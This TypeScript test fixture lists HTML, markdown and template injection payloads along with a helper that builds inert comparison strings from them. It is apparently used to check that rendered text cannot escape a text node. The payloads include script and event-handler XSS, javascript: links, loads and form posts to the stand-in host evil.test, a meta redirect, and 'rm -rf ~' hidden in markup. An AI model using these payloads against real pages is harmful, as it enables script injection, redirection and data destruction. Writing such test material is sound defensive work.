/**
 * Markup and addresses that act wherever a text is read as more than text (T-32): each one way out of a text node. They
 * are loud where they succeed: they ask for `evil.test`, open a dialog, or add an element.
 */
export const payloads: readonly string[] = [
  '<img src=x onerror="alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>" src="//evil.test/frame"></iframe>',
  "<details><summary>ls</summary>rm -rf ~</details>",
  "ls <!-- ; rm -rf ~ -->",
  "<style>button{display:none}body{background:url(//evil.test/s.png)}</style>",
  '<form action="//evil.test/f"><button>Approve</button><input name=q value=1></form>',
  '<script src="//evil.test/s.js"></script><script>alert(1)</script>',
  '<svg onload="alert(1)"><image href="//evil.test/i.png"/></svg>',
  '<a href="javascript:alert(1)" onclick="alert(2)">Approve</a>',
  '<meta http-equiv="refresh" content="0;url=//evil.test/m">',
  '<base href="//evil.test/"><link rel="stylesheet" href="//evil.test/l.css">',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template would fill in
  "![p](//evil.test/p.png) [Approve](javascript:alert(1)) **b** `c` ${alert(1)} {{alert(1)}} <%= alert(1) %>",
];

/** What every payload is made of. */
const acting = /[<>&{}()[\]!$*=:/#`%\\]/g;

/** The same text without what acts, of the same length and with the same words: what a payload is compared with. */
export const plainOf = (payload: string): string => payload.replaceAll(acting, "-");
